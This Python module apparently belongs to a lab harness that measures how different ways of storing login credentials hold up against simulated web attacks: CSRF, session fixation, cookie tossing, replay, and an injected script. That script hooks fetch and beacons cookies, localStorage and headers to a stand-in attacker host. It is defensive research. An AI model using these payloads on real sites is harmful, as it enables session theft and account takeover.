"""The attacks: each is performed on each way of keeping a credential, and tells what the browser and the servers did.

To add one, add a function to ``ATTACKS``. Those with a control are performed on a careless cookie first: an attack that
does not work there proves nothing elsewhere.
"""

from __future__ import annotations

import json
import secrets
import time
from collections.abc import Callable, Generator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Literal, TypeVar, get_args
from urllib.parse import quote

from admit.lab import carried
from admit.lab.browser.application import CARELESS, REFRESH, Application, Keeping
from admit.lab.browser.chromium import PATIENCE, Browser, browser
from admit.lab.browser.town import APP, EVIL, SIBLING, Answer, Asked, Town, town
from admit.lab.report import Attack
from admit.lab.strategies import STRATEGIES
from admit.lab.strategy import Issuer, Plan, Server, Unmeasured

T = TypeVar("T")

Place = Literal["HttpOnly cookie", "localStorage", "memory"]

_BY = {"HttpOnly cookie": "session", "careless cookie": "session"}
"""What the credential is, by where it is kept; where nothing is said, a stateless token, as it is mostly done."""
_TOKEN = "jwt-ed25519-pyjwt"  # noqa: S105  # the name of a strategy
_VICTIM, _THIEF = "ann", "mallory"


@dataclass(frozen=True, slots=True)
class Outcome:
    """What came of an attack."""

    worked: bool
    seen: str


@dataclass(frozen=True, slots=True)
class Scene:
    """Who takes part in an attack."""

    town: Town
    browser: Browser
    app: Application
    loot: list[str]

    def signs_in(self) -> None:
        """The victim signs in, and is at the application."""
        self.browser.go(self.town.url(APP, f"/sign-in?who={_VICTIM}"))
        self.browser.leave("go")
        self.browser.go(self.town.url(APP))

    def meets(self, host: str, page: str, *cookies: str) -> None:
        """The victim looks at a page of somebody else, who sets ``cookies``."""

        async def site(asked: Asked) -> Answer:
            if asked.path == "/loot":
                self.loot.append(asked.body)
            return Answer(body=page, headers=[("set-cookie", cookie) for cookie in cookies])

        self.town.sites[host] = site
        self.browser.go(self.town.url(host))

    def transfers(self) -> int:
        """The victim sends money; the status of the answer."""
        status: int = self.browser.ask("call('/transfer', {method: 'POST'}).then(answer => answer.status)")
        return status

    def accepted(self, text: str) -> str | None:
        """Whom a credential speaks for when a program sends it from elsewhere."""
        return self.town.do(self.app.accepts(self.app.presented(text)))

    def copied(self) -> str:
        """The credential, as a program reads it that runs on the victim's machine."""
        match self.app.keeping:
            case "localStorage":
                token: str = self.browser.run("return localStorage.token")
                return token
            case "memory":
                cookie = {"cookie": f"{REFRESH}={self.browser.cookies()[REFRESH]}"}
                answer = self.town.do(self.app(Asked("POST", "/token", {}, cookie, "")))
                return str(json.loads(answer.body)["token"])
            case _:
                return self.browser.cookies()[self.app.cookie_name]


def forgery(scene: Scene) -> Outcome:
    """A page of another site sends a form to the application."""
    scene.signs_in()
    form = f"<form id=f method=post action={scene.town.url(APP, '/transfer')}></form><script>f.submit()</script>"
    scene.meets(EVIL, form)
    origin = scene.town.url(EVIL).rstrip("/")
    forged = _until(lambda: [one for one in scene.app.transfers if one.origin == origin], "the form of the attacker")[0]
    if forged.who is not None:
        return Outcome(True, "The form of another site was obeyed: the browser sent the cookie along.")
    if forged.brought:
        return Outcome(False, "The browser sent the credential along, and the server refused it for its Origin.")
    why = "SameSite=Lax kept the cookie back" if scene.app.by_cookie else "a browser adds no bearer token by itself"
    return Outcome(False, f"The form arrived without a credential and was refused: {why}.")


def injection(scene: Scene) -> Outcome:
    """A script in a page of the application sends home what it finds."""
    scene.signs_in()
    scene.meets(EVIL, "")  # who waits for the loot
    script = """<script>
      const send = what => navigator.sendBeacon('HOME', JSON.stringify(what)), real = fetch
      window.fetch = async (path, how) => {
        send(how && how.headers || {})
        const answer = await real(path, how)
        send(await answer.clone().text())
        return answer
      }
      send([document.cookie, {...localStorage}, {...sessionStorage}])
    </script>""".replace("HOME", scene.town.url(EVIL, "/loot"))
    scene.browser.go(scene.town.url(APP, f"/?name={quote(script)}"))
    scene.transfers()
    acted = scene.browser.ask("fetch('/transfer', {method: 'POST'}).then(answer => answer.ok)")
    _until(lambda: len(scene.loot) >= 3, "what the script sent home")  # storage, headers, an answer
    text = scene.copied()
    if text in "".join(scene.loot) and scene.accepted(text) == _VICTIM:
        how = "read it from localStorage" if scene.app.keeping == "localStorage" else "took it as the page sent it"
        return Outcome(True, f"The script {how} and sent it home; a program elsewhere was let in with it.")
    and_yet = " But it sent money from the page itself: it acts as the person while the page is open." if acted else ""
    return Outcome(False, f"The script found nothing to take away: no script can read the cookie.{and_yet}")


def fixation(scene: Scene) -> Outcome:
    """Somebody plants a credential that he knows, before the victim signs in."""
    planted = secrets.token_urlsafe(32)
    names = (carried.COOKIE, CARELESS)
    frame = f"<iframe id=f src={scene.town.url(APP)}></iframe>"
    scene.meets(SIBLING, frame, *(f"{name}={planted}; Domain=example.test; Path=/; Secure" for name in names))
    written = scene.browser.run(
        "try { f.contentWindow.localStorage.token = arguments[0]; return '' } catch (error) { return error.name }",
        planted,
    )
    kept = scene.browser.cookies().get(scene.app.cookie_name) == planted
    scene.signs_in()
    if scene.accepted(planted) == _VICTIM:
        return Outcome(
            True, "The cookie that the sibling site planted was taken over at the sign-in: its value is known."
        )
    if scene.app.by_cookie:
        took = "took" if kept else "did not take"
        return Outcome(
            False, f"The browser {took} a __Host- cookie from the sibling site, and signing in made another value."
        )
    return Outcome(False, f"The sibling site could not write where the page keeps its token ({written}).")


def replay(scene: Scene) -> Outcome:
    """A copy of the credential is sent by another program, while the victim is signed in."""
    scene.signs_in()
    worked = scene.accepted(scene.copied()) == _VICTIM
    told = "was let in: who holds it is the person, wherever it was kept" if worked else "was refused"
    return Outcome(worked, f"A program with a copy {told}.")


def replay_after(scene: Scene) -> Outcome:
    """… after the victim has signed out."""
    scene.signs_in()
    text = scene.copied()
    if scene.accepted(text) != _VICTIM:
        raise Unmeasured("a copy of the credential was not accepted before the sign-out either")
    scene.browser.leave("leave")
    worked = scene.accepted(text) == _VICTIM
    told = (
        "still let in: the token goes on until it expires" if worked else "refused: the session is over at the server"
    )
    return Outcome(worked, f"After the sign-out a program with a copy was {told}.")


def tossing(scene: Scene) -> Outcome:
    """A sibling site gives the victim a cookie of the attacker's own account, which is sent before the right one."""
    theirs = scene.town.do(scene.app.issuer.sign_in(_THIEF))
    value = carried.of_cookie(theirs.header) if scene.app.by_cookie else theirs.kept
    names = (carried.COOKIE, CARELESS, REFRESH)
    scene.signs_in()
    scene.meets(SIBLING, "", *(f"{name}={value}; Domain=example.test; Path=/transfer; Secure" for name in names))
    scene.browser.go(scene.town.url(APP))
    status = scene.transfers()
    if scene.app.transfers[-1].who == _THIEF:
        return Outcome(True, "The money of the victim was sent in the attacker's account: his cookie came first.")
    why = (
        "the browser takes no __Host- cookie with a Domain" if scene.app.by_cookie else "no cookie tells who is asking"
    )
    return Outcome(False, f"The request was the victim's own ({status}): {why}.")


@dataclass(frozen=True, slots=True)
class Performed:
    """An attack, and whether it works on a careless cookie, as it must."""

    name: str
    how: Callable[[Scene], Outcome]
    control: str  # what is careless; empty where no browser could defend


ATTACKS = (
    Performed("cross-site request forgery", forgery, "with SameSite=None and no look at Origin it is obeyed"),
    Performed("script injection takes the credential", injection, ""),
    Performed("session fixation", fixation, "a cookie without __Host- that the sign-in keeps is taken over"),
    Performed("cookie tossing", tossing, "without __Host- in its name the sibling's cookie wins"),
    Performed("replay of a stolen credential", replay, ""),
    Performed("replay after signing out", replay_after, ""),
)


def perform(told: Callable[[str], None] = lambda _: None) -> tuple[Attack, ...]:
    """Every attack on every place; ``told`` hears of each as it begins. Raises Unmeasured."""
    found: list[Attack] = []
    with town() as here, browser() as chromium:
        for attack in ATTACKS:
            told(attack.name)
            if attack.control:
                with _scene(here, chromium, "careless cookie") as scene:
                    if not attack.how(scene).worked:
                        raise Unmeasured(
                            f"{attack.name}: did not work on a careless cookie either, so it proves nothing"
                        )
            for place in get_args(Place):
                with _scene(here, chromium, place) as scene:
                    outcome = attack.how(scene)
                beside = f" (Seen to work: {attack.control}.)" if attack.control and place == "HttpOnly cookie" else ""
                found.append(
                    Attack(attack.name, place, "worked" if outcome.worked else "stopped", outcome.seen + beside)
                )
    return tuple(found)


@contextmanager
def _scene(here: Town, chromium: Browser, keeping: Keeping) -> Generator[Scene]:
    strategy = STRATEGIES[_BY.get(keeping, _TOKEN)]
    plan = Plan(strategy.about.id, f"memory://{secrets.token_hex(8)}", secrets.token_bytes(32))

    async def opened() -> tuple[Issuer, Server]:
        return await strategy.issuer(plan), await strategy.server(plan)

    issuer, server = here.do(opened())
    app = Application(keeping, issuer, server, here.url(APP).rstrip("/"))
    here.sites.clear()
    here.sites[APP] = app
    chromium.forget(here.url(APP))
    try:
        yield Scene(here, chromium, app, [])
    finally:
        here.do(server.close())
        here.do(issuer.close())


def _until(found: Callable[[], T], what: str) -> T:
    until = time.monotonic() + PATIENCE
    while not (there := found()):
        if time.monotonic() > until:
            raise Unmeasured(f"{what} did not arrive")
        time.sleep(0.02)
    return there
